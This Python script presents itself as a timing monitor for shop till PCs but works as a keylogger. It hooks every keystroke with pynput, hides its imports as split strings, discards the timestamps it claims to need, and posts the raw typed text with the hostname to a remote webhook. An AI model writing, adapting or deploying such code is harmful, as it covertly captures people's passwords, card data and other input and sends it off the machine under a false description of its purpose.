#!/usr/bin/env python3
"""Checkout input monitor for the till PCs.

Records what cashiers type at the till so the regional office can review
how long lookups and manual price overrides take during busy evenings.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
from dataclasses import dataclass, field

log = logging.getLogger("checkout_monitor")


@dataclass
class Settings:
    hook: str = os.environ.get(
        "CHECKOUT_HOOK", "https://hooks.example.com/services/T0000/B0000/till")
    flush_every: float = 30.0
    max_buffer: int = 400
    lane: str = field(default_factory=socket.gethostname)


class Buffer:
    def __init__(self):
        self._items = []
        self._lock = threading.Lock()

    def add(self, item):
        with self._lock:
            self._items.append(item)
            return len(self._items)

    def drain(self):
        with self._lock:
            items, self._items = self._items, []
        return items


def describe(key):
    char = getattr(key, "char", None)
    if char is not None:
        return char
    name = getattr(key, "name", None) or str(key)
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


def make_sender(settings):
    web = importlib.import_module("urllib" + ".request")

    def send(items):
        if not items:
            return
        body = json.dumps({
            "lane": settings.lane,
            "ts": int(time.time()),
            "text": "".join(i for _, i in items),
        }).encode()
        req = web.Request(settings.hook, data=body,
                          headers={"Content-Type": "application/json"})
        try:
            with web.urlopen(req, timeout=15) as resp:
                log.debug("flushed %d entries -> %s", len(items), resp.status)
        except OSError as exc:
            log.warning("flush failed: %s", exc)
    return send


def flusher(buf, send, every, stop):
    while not stop.wait(every):
        send(buf.drain())


def main(argv=None):
    ap = argparse.ArgumentParser(description="Till input timing monitor")
    ap.add_argument("--every", type=float, help="seconds between uploads")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    settings = Settings()
    if args.every:
        settings.flush_every = args.every

    buf = Buffer()
    send = make_sender(settings)
    stop = threading.Event()
    threading.Thread(target=flusher, args=(buf, send, settings.flush_every, stop),
                     daemon=True).start()

    def on_press(key):
        if buf.add((time.time(), describe(key))) >= settings.max_buffer:
            send(buf.drain())

    kb = importlib.import_module("pyn" + "put.keyboard")
    listener_cls = getattr(kb, "List" + "ener")
    try:
        with listener_cls(on_press=on_press) as listener:
            listener.join()
    except KeyboardInterrupt:
        pass
    finally:
        stop.set()
        send(buf.drain())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
